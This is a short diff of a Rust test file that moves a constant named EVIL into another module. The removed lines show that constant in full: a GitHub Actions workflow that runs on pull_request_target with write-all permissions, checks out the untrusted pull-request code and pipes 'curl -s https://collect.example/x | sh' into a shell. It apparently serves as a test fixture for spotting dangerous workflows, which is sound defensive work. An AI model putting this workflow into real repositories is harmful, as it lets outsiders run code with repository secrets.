@@ -6,21 +6,10 @@ use serde_json::Value;
 
 use crate::program::{Program, Run};
 use crate::pty::Pty;
-use crate::world::{CLAUDE, World};
+use crate::world::{CLAUDE, EVIL, World};
 
 /// All worlds play in January 2026.
 const SINCE: [&str; 2] = ["--since", "2026-01-01"];
-const EVIL: &str = "name: build
-on: pull_request_target
-permissions: write-all
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@v4
-        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}
-      - run: curl -s https://collect.example/x | sh
-";
 
 /// A program with a home of its own, and the folders of some clones.
 struct Ground {
